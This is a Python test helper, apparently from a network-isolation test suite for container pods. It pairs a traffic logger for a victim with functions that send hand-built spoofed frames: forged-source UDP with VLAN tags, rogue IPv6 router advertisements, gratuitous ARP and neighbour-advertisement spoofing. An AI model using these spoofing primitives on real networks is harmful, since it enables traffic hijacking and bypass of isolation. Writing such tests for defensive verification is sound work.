"""What an attacking pod sends (CAP_NET_RAW is all it uses) and what its victim logs, run inside
test namespaces only.

    attack_app.py listen PORT LOG          log every UDP datagram and TCP connection on PORT (IPv4
                                           and IPv6, unicast, broadcast, multicast) to LOG as
                                           "udp|tcp <peer address> <payload>"; prints "ready"
    attack_app.py udp SRC DST DSTMAC PORT PAYLOAD [--src-mac MAC] [--vlan VID]
                                           one hand-made Ethernet + IPv4 (or IPv6) + UDP frame on eth0
    attack_app.py ra                       a router advertisement (default router: me) to ff02::1
    attack_app.py garp IP                  gratuitous ARP: IP is at my MAC
    attack_app.py na IP                    unsolicited neighbour advertisement (override): IP is at my MAC
    attack_app.py send ADDR PORT PAYLOAD   an ordinary UDP datagram (broadcast allowed; ADDR may
                                           carry %eth0)
    attack_app.py tcp ADDR PORT PAYLOAD    an ordinary TCP connection that sends PAYLOAD

Servers stop by themselves after 600 s.
"""

import ipaddress
import selectors
import socket
import struct
import sys
import time

IFACE = "eth0"


def mac_of(ifname: str = IFACE) -> bytes:
    with open(f"/sys/class/net/{ifname}/address") as f:
        return bytes.fromhex(f.read().strip().replace(":", ""))


def _csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def _frame(dst_mac: bytes, src_mac: bytes, ethertype: int, payload: bytes, vlan: int | None) -> bytes:
    tag = struct.pack("!HH", 0x8100, vlan) if vlan is not None else b""
    return dst_mac + src_mac + tag + struct.pack("!H", ethertype) + payload


def _send_frame(frame: bytes) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((IFACE, 0))
        s.send(frame)


def udp_frame(src: str, dst: str, dst_mac: bytes, port: int, payload: bytes, src_mac: bytes,
              vlan: int | None) -> bytes:
    s, d = ipaddress.ip_address(src), ipaddress.ip_address(dst)
    udp_len = 8 + len(payload)
    if s.version == 4:
        udp = struct.pack("!HHHH", 40000, port, udp_len, 0) + payload
        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 1, 0, 64, 17, 0, s.packed, d.packed)
        hdr = hdr[:10] + struct.pack("!H", _csum(hdr)) + hdr[12:]
        return _frame(dst_mac, src_mac, 0x0800, hdr + udp, vlan)
    pseudo = s.packed + d.packed + struct.pack("!I3xB", udp_len, 17)
    udp = struct.pack("!HHHH", 40000, port, udp_len, 0) + payload
    udp = udp[:6] + struct.pack("!H", _csum(pseudo + udp) or 0xFFFF) + udp[8:]
    hdr = struct.pack("!IHBB16s16s", 6 << 28, udp_len, 17, 64, s.packed, d.packed)
    return _frame(dst_mac, src_mac, 0x86DD, hdr + udp, vlan)


def _icmp6_to_all_nodes(message: bytes) -> None:
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
        s.sendto(message, ("ff02::1", 0, 0, socket.if_nametoindex(IFACE)))


def router_advert() -> None:
    # type 134: hop limit 64, no flags, router lifetime 1800 s; source link-layer option
    ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + struct.pack("!BB6s", 1, 1, mac_of())
    # a prefix too, so a victim that takes it also gets an address and an on-link route
    prefix = ipaddress.IPv6Address("fd66::")
    ra += struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 3600, 1800, 0, prefix.packed)
    _icmp6_to_all_nodes(ra)


def neighbour_advert(ip: str) -> None:
    # type 136, flags: override; target; target link-layer option (my MAC)
    na = struct.pack("!BBHI16s", 136, 0, 0, 0x20000000, ipaddress.IPv6Address(ip).packed)
    _icmp6_to_all_nodes(na + struct.pack("!BB6s", 2, 1, mac_of()))


def garp(ip: str) -> None:
    me, addr = mac_of(), ipaddress.IPv4Address(ip).packed
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, me, addr, b"\0" * 6, addr)
    _send_frame(_frame(b"\xff" * 6, me, 0x0806, arp, None))


def listen(port: int, log_path: str) -> None:
    sel = selectors.DefaultSelector()
    udp4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp4.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    udp4.bind(("0.0.0.0", port))
    udp6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    udp6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    udp6.bind(("::", port))
    tcp = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    tcp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tcp.bind(("::", port))
    tcp.listen(16)
    for s, kind in ((udp4, "udp"), (udp6, "udp"), (tcp, "tcp")):
        sel.register(s, selectors.EVENT_READ, kind)
    log = open(log_path, "a", buffering=1)
    print("ready", flush=True)
    deadline = time.monotonic() + 600
    while time.monotonic() < deadline:
        for key, _ in sel.select(timeout=1):
            try:
                if key.data == "udp":
                    data, peer = key.fileobj.recvfrom(2048)
                    key.fileobj.sendto(b"ok", peer)
                else:
                    conn, peer = key.fileobj.accept()
                    conn.settimeout(2)
                    data = conn.recv(2048)
                    conn.sendall(b"ok")
                    conn.close()
                log.write(f"{key.data} {peer[0]} {data.decode(errors='replace')}\n")
            except OSError:
                pass


def send(addr: str, port: int, payload: str) -> None:
    info = socket.getaddrinfo(addr, port, 0, socket.SOCK_DGRAM)[0]
    with socket.socket(info[0], socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(payload.encode(), info[4])


def tcp(addr: str, port: int, payload: str) -> None:
    info = socket.getaddrinfo(addr, port, 0, socket.SOCK_STREAM)[0]
    try:
        with socket.socket(info[0], socket.SOCK_STREAM) as s:
            s.settimeout(1.5)
            s.connect(info[4])
            s.sendall(payload.encode())
            s.recv(16)
        print("connected")
    except OSError as e:
        print(f"failed: {e}")


def main(argv: list[str]) -> None:
    cmd = argv[0]
    if cmd == "listen":
        listen(int(argv[1]), argv[2])
    elif cmd == "udp":
        src, dst, dst_mac, port, payload = argv[1:6]
        rest = argv[6:]
        src_mac = bytes.fromhex(rest[rest.index("--src-mac") + 1].replace(":", "")) \
            if "--src-mac" in rest else mac_of()
        vlan = int(rest[rest.index("--vlan") + 1]) if "--vlan" in rest else None
        _send_frame(udp_frame(src, dst, bytes.fromhex(dst_mac.replace(":", "")), int(port), payload.encode(),
                              src_mac, vlan))
    elif cmd == "ra":
        router_advert()
    elif cmd == "garp":
        garp(argv[1])
    elif cmd == "na":
        neighbour_advert(argv[1])
    elif cmd == "send":
        send(argv[1], int(argv[2]), argv[3])
    elif cmd == "tcp":
        tcp(argv[1], int(argv[2]), argv[3])
    else:
        raise SystemExit(f"unknown command {cmd}")


if __name__ == "__main__":
    main(sys.argv[1:])
